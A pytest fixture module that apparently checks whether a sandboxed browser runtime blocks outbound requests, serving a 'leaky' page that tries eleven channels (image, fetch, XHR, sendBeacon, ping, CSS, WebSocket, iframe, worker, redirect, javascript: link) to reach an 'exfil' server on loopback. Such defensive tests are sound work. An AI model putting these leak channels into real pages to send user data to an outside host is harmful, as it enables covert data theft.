"""A page that tries every channel a page has to send a request to an "attacker"
server on another loopback port (``CHANNELS``, one path each), a local app that calls
its API on another port, and the two servers (``leaky_servers``: the site, the
attacker) that serve and count them."""

from __future__ import annotations

import ipaddress
import socket
from collections.abc import Iterator

import pytest

from linewise.runtime.browser.addresses import classify
from tests.support.sites import Site

CHANNELS = ("img", "fetch", "xhr", "beacon", "ping", "css", "ws", "iframe-fetch",
            "worker-fetch", "sub-redirect", "js-link")

LEAKY = """<html><head><title>t</title>
<style>body {{ background: url('{exfil}/css'); }}</style></head><body>
<h1>Leaky</h1><iframe name=sink></iframe>
<a id=ping href='/landed' target=sink ping='{exfil}/ping'>ping link</a>
<a id=js href="javascript:fetch('{exfil}/js-link').catch(() => 0)">js link</a>
<script>
const settle = (p) => p.then(() => 0, () => 0);
const img = (src) => new Promise((done) => {{
  const i = new Image(); i.onload = i.onerror = done; i.src = src; }});
const xhr = () => new Promise((done) => {{
  const r = new XMLHttpRequest(); r.onloadend = done; r.open('GET', '{exfil}/xhr');
  r.send(); }});
const ws = () => new Promise((done) => {{
  const s = new WebSocket('{exfil_ws}/ws'); s.onopen = s.onerror = s.onclose = done; }});
const pristine = () => {{
  const f = document.createElement('iframe'); document.body.appendChild(f);
  return settle(f.contentWindow.fetch('{exfil}/iframe-fetch', {{mode: 'no-cors'}})); }};
const worker = () => new Promise((done) => {{
  const code = "fetch('{exfil}/worker-fetch', {{mode: 'no-cors'}}).finally(() => "
             + "postMessage(1))";
  const w = new Worker(URL.createObjectURL(new Blob([code])));
  w.onmessage = w.onerror = done; }});
navigator.sendBeacon('{exfil}/beacon', 'x');
window.open('data:text/html,<p>popup secret</p>');
document.getElementById('ping').click();
document.getElementById('js').click();
Promise.all([img('{exfil}/img'), settle(fetch('{exfil}/fetch', {{mode: 'no-cors'}})),
             xhr(), ws(), pristine(), worker(), img('/hop-to-exfil')])
  .then(() => settle(fetch('/sync'))).then(() => {{ document.title = 'done'; }});
</script></body></html>"""

APP = """<html><head><title>t</title></head><body><h1>App</h1><p id=out>waiting</p><script>
fetch('{api}/data').then((r) => r.text()).then((t) => {{
  const s = new WebSocket('{api_ws}/echo');
  s.onopen = () => s.send('ping');
  s.onmessage = (m) => {{ out.textContent = t + ' ' + m.data; document.title = 'done'; }};
  s.onerror = () => {{ out.textContent = 'ws failed'; document.title = 'done'; }};
}}, (e) => {{ out.textContent = 'fetch failed ' + e; document.title = 'done'; }});
</script></body></html>"""


def _loopback_name() -> str | None:
    """This machine's host name when the system resolves it to loopback only (/etc/hosts
    maps it so on most Linux machines): a real name that is loopback only once resolved."""
    name = socket.gethostname()
    try:
        infos = socket.getaddrinfo(name, None, type=socket.SOCK_STREAM)
    except OSError:
        return None
    kinds = {classify(ipaddress.ip_address(str(info[4][0]).split("%")[0])).kind
             for info in infos}
    return name if kinds == {"loopback"} else None


LOOPBACK_NAME = _loopback_name()


@pytest.fixture
def leaky_servers() -> Iterator[tuple[Site, Site]]:
    site, exfil = Site(), Site()
    site.pages = {
        "/leaky": (200, {}, LEAKY),
        "/to-leaky": (302, {"Location": "/leaky"}, ""),
        "/hop-to-exfil": (302, {"Location": "{exfil}/sub-redirect"}, ""),
        "/hop-to-devtools": (302, {"Location": "{exfil}/json/version"}, ""),
        "/app": (200, {}, APP),
        "/to-landed": (302, {"Location": "/landed"}, ""),
        "/data-popup": (200, {}, "<html><head><title>opener</title></head><body>"
                        "<button onclick=\"window.open('data:text/html,<p>popup secret</p>')"
                        "\">data popup</button></body></html>"),
        "/slow": (200, {}, "<html><head><title>slow</title></head><body><h1>Slow page</h1>"
                  "</body></html>"),
    }
    site.fill = exfil.fill = {
        "exfil": f"http://127.0.0.1:{exfil.port}", "exfil_ws": f"ws://127.0.0.1:{exfil.port}",
    }
    try:
        yield site, exfil
    finally:
        site.close()
        exfil.close()
